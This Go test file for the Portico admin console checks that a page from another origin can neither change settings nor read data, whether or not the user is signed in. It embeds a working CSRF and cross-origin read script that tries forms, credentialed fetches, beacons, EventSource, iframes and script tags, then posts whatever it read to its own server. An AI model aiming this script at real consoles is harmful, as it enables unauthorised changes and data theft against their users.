package demo_test

import (
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"

	"portico/backend/backendtest/testkit"
	"portico/cmd/portico/cli"
)

// foreign is a page of another origin. It tries to read and to change things at each address of targets, and tells its
// own server what it could read.
const foreign = `<!DOCTYPE html><title>foreign</title><body><script>
const path = "/api/v1/servers/mbx1/block", list = "/api/v1/servers";
const wait = (set) => new Promise((done) => { set(done); setTimeout(done, 20000, ""); });
const text = async (url, options) => (await fetch(url, options)).text();
const body = '{"move":false}';
const form = (target, kind) => wait((done) => {
	const frame = document.createElement("iframe");
	frame.name = "frame" + document.querySelectorAll("iframe").length; // not later: the form would open a tab
	document.body.append(frame);
	const form = document.body.appendChild(document.createElement("form"));
	Object.assign(form, { method: "POST", action: target + path, target: frame.name, enctype: kind });
	const field = form.appendChild(document.createElement("input"));
	[field.name, field.value] = ['{"move":false,"x":"', '"}'];
	frame.onload = () => done("");
	form.submit();
});
const ways = {
	"a form": (t) => form(t, "text/plain"),
	"a usual form": (t) => form(t, "application/x-www-form-urlencoded"),
	"a change without CORS": (t) => text(t + path, { method: "POST", mode: "no-cors", body, credentials: "include" }),
	"a change with CORS": (t) => text(t + path, { method: "POST", body,
		headers: { "Content-Type": "application/json", Authorization: "Bearer guessed" } }),
	"a beacon": (t) => navigator.sendBeacon(t + path, body) && "",
	"a request without CORS": (t) => text(t + list, { mode: "no-cors", credentials: "include" }),
	"a request": (t) => text(t + list, { credentials: "include" }),
	"an EventSource": (t) => wait((done) => {
		const events = new EventSource(t + "/api/v1/events?path=" + list, { withCredentials: true });
		events.addEventListener("answer", (event) => { events.close(); done(event.data); });
		events.onerror = () => { events.close(); done(""); };
	}),
	"a frame": (t) => wait((done) => {
		const frame = document.body.appendChild(document.createElement("iframe"));
		frame.onload = () => { try { done(frame.contentDocument.body.innerText); } catch { done(""); } };
		frame.src = t + list;
	}),
	"a script": (t) => wait((done) => {
		const script = document.body.appendChild(document.createElement("script"));
		script.onload = () => done("ran");
		script.onerror = () => done("");
		script.src = t + list;
	}),
};
(async () => {
	const found = {};
	for (const target of TARGETS) for (const [name, way] of Object.entries(ways))
		found[target + " " + name] = await Promise.resolve(way(target)).catch(() => "");
	await fetch("/found", { method: "POST", body: JSON.stringify(found) });
})();
</script>`

// foreignSite serves the foreign page. It also answers as a console would that protects nothing, to show that the
// page's ways work there.
type foreignSite struct {
	url     string
	mu      sync.Mutex
	found   map[string]string // what the page has read, by address and way
	changes int               // that its own server was asked for
}

func newForeignSite(t *testing.T, console string) *foreignSite {
	t.Helper()
	f := &foreignSite{}
	mux := http.NewServeMux()
	mux.HandleFunc("GET /page", func(w http.ResponseWriter, r *http.Request) {
		targets, _ := json.Marshal([]string{f.url, console, strings.Replace(console, "127.0.0.1", "localhost", 1)})
		w.Header().Set("Content-Type", "text/html")
		io.WriteString(w, strings.Replace(foreign, "TARGETS", string(targets), 1))
	})
	mux.HandleFunc("POST /found", func(w http.ResponseWriter, r *http.Request) {
		f.mu.Lock()
		defer f.mu.Unlock()
		json.NewDecoder(r.Body).Decode(&f.found)
	})
	mux.HandleFunc("GET /api/v1/servers", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/javascript")
		io.WriteString(w, `"mbx1"`)
	})
	mux.HandleFunc("POST /api/v1/servers/mbx1/block", func(w http.ResponseWriter, r *http.Request) {
		f.mu.Lock()
		defer f.mu.Unlock()
		f.changes++
		io.WriteString(w, "blocked")
	})
	mux.HandleFunc("GET /api/v1/events", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/event-stream")
		io.WriteString(w, "event: answer\ndata: mbx1\n\n")
	})
	server := httptest.NewServer(mux)
	t.Cleanup(server.Close)
	f.url = server.URL
	return f
}

// reads returns what the page could read at an address, by way.
func (f *foreignSite) reads(address string) []string {
	f.mu.Lock()
	defer f.mu.Unlock()
	var all []string
	for way, text := range f.found {
		if strings.HasPrefix(way, address+" ") && text != "" {
			all = append(all, fmt.Sprintf("%s: %.100q", way, text))
		}
	}
	return all
}

// A page of another origin reads and changes nothing, whether or not a console in the same browser is signed in. On
// loopback everybody may read without a token; the page of another origin may not.
func TestConsoleForeignPage(t *testing.T) {
	dir := t.TempDir()
	d := startDemo(t, dir)
	defer d.stop(t)
	t.Setenv("PORTICO_ADMIN", dir+"/admin.sock")
	c := openConsole(t, d)
	address := strings.TrimSuffix(c.url, "/")
	visits := func(signedIn string, refused int, visit func(page string)) {
		t.Helper()
		f := newForeignSite(t, address)
		visit(f.url + "/page")
		testkit.Eventually(t, "the page to try everything", func() bool {
			f.mu.Lock()
			defer f.mu.Unlock()
			return f.found != nil && f.changes == 5
		})
		// A beacon may arrive late. After this, Portico has answered all changes.
		testkit.Eventually(t, fmt.Sprintf("%s: %d refused changes", signedIn, refused), func() bool {
			return strings.Contains(ask(t, c.url+"metrics"),
				fmt.Sprintf("portico_admin_requests_refused_total{kind=\"forbidden\"} %d\n", refused))
		})
		if got := f.reads(f.url); len(got) != 7 {
			t.Fatalf("at its own server the page reads %q", got)
		}
		for _, at := range []string{address, strings.Replace(address, "127.0.0.1", "localhost", 1)} {
			if got := f.reads(at); len(got) > 0 {
				t.Errorf("%s: the page has read %q", signedIn, got)
			}
		}
		if status, out, errs := command("server", "list", "-o", "json"); status != cli.StatusFine ||
			strings.Contains(out, `"blocked": true`) {
			t.Errorf("%s: %s%s", signedIn, out, errs)
		}
		if strings.Contains(d.log.String(), "change requested") {
			t.Errorf("%s: a change was made:\n%s", signedIn, d.log)
		}
	}
	visits("not signed in", 8, c.Visit)
	c.Visit(c.url)
	c.Until("overview", "document.querySelector('.verdict .state')")
	c.signIn()
	visits("signed in", 16, func(page string) { c.Run(fmt.Sprintf("void window.open(%q)", page), nil) })
	if text := c.Text(); !strings.Contains(text, "token admin.token") {
		t.Errorf("the console is not signed in any more: %s", text)
	}
}

// ask gets a page over HTTP.
func ask(t *testing.T, url string) string {
	t.Helper()
	answer, err := http.Get(url)
	if err != nil {
		t.Fatal(err)
	}
	defer answer.Body.Close()
	body, err := io.ReadAll(answer.Body)
	if err != nil {
		t.Fatal(err)
	}
	return string(body)
}
